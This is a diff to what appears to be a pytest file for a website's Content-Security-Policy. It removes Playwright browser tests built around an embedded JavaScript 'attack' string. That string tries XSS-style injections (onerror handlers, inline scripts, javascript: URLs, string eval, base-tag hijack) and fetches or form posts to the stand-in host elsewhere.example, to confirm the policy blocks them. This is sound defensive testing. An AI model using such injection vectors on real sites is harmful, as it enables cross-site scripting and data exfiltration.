@@ -1,4 +1,4 @@
-"""The Content-Security-Policy: what the build refuses, and what the browser then does."""
+"""The Content-Security-Policy: what each page has, and what the build refuses."""
 
 from __future__ import annotations
 
@@ -6,18 +6,10 @@ import re
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Browser, Route
 
 from torch_errors.errors import UserError
 from website.policy import SERVED, check_content, with_policy
 
-PAGES = [
-    "",
-    "dimension-mismatch/matmul-shape-mismatch/",
-    "troubleshooting-workflows/shape-error/",
-    "zh/",
-    "zh/dimension-mismatch/matmul-shape-mismatch/",
-]
 POLICY = re.compile(r'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="([^"]*)">')
 
 
@@ -44,72 +36,6 @@ def test_every_page_has_the_policy(site: Path) -> None:
             "base-uri": "'none'",
             "form-action": "'none'",
         }
-
-
-ATTACK = """async (elsewhere) => {
-    window.hits = [];
-    const put = (name, attributes, text = "") => {
-        const made = document.createElement(name);
-        for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
-        made.textContent = text;
-        document.body.append(made);
-        return made;
-    };
-    document.body.insertAdjacentHTML("beforeend", '<img src="nowhere.png" onerror="window.hits.push(1)">');
-    put("script", {}, "window.hits.push(2)");
-    put("script", { src: elsewhere + "script.js" });
-    put("a", { href: "javascript:window.hits.push(3)" }).click();
-    put("iframe", { src: "javascript:parent.hits.push(4)" });
-    put("style", {}, "body { outline: 7px solid red }");
-    put("p", { style: "outline: 7px solid red", id: "styled" });
-    put("base", { href: elsewhere });
-    try { setTimeout("window.hits.push(5)"); } catch {}
-    // In a callback: what the browser's debugger evaluates is free of the policy.
-    setTimeout(() => { try { new Function("window.hits.push(6)")(); } catch {} });
-    for (const address of [elsewhere, elsewhere + "image.png"])
-        await fetch(address, { mode: "no-cors" }).then(() => window.hits.push(address), () => {});
-    put("img", { src: elsewhere + "image.png" });
-    const form = put("form", { action: elsewhere, method: "post" });
-    form.submit();
-    await new Promise((done) => setTimeout(done, 300));
-    const outlines = [document.body, document.getElementById("styled")].map((e) => getComputedStyle(e).outlineWidth);
-    return { hits: window.hits, styled: outlines.includes("7px"), base: document.baseURI };
-}"""
-
-
-@pytest.mark.parametrize("path", PAGES)
-def test_browser_holds_an_attack_to_the_policy(path: str, browser: Browser, address: str) -> None:
-    context = browser.new_context()
-    page = context.new_page()
-    page.goto(address + path)
-    asked: list[str] = []
-    # Requests that the policy stops are not seen here: they never leave.
-
-    def answer(route: Route) -> None:
-        asked.append(route.request.url)
-        route.fulfill(body="")
-
-    page.route("http://elsewhere.example/**", answer)
-    found = page.evaluate(ATTACK, "http://elsewhere.example/")
-    assert found == {"hits": [], "styled": False, "base": address + path}
-    assert asked == []
-    context.close()
-
-
-def test_without_the_policy_the_attack_succeeds(browser: Browser, address: str) -> None:
-    """So that the test above cannot pass because the attack does nothing."""
-    context = browser.new_context()
-    page = context.new_page()
-    page.route(
-        address,
-        lambda route: route.fulfill(content_type="text/html", body="<!doctype html><title>x</title><body>"),
-    )
-    page.goto(address)
-    page.route("http://elsewhere.example/**", lambda route: route.fulfill(body="", status=204))
-    found = page.evaluate(ATTACK, "http://elsewhere.example/")
-    assert {1, 2, 3, 4, 5, 6} <= set(found["hits"]) and "http://elsewhere.example/" in found["hits"]
-    assert found["styled"] and found["base"] == "http://elsewhere.example/"
-    context.close()
 
 
 @pytest.mark.parametrize(
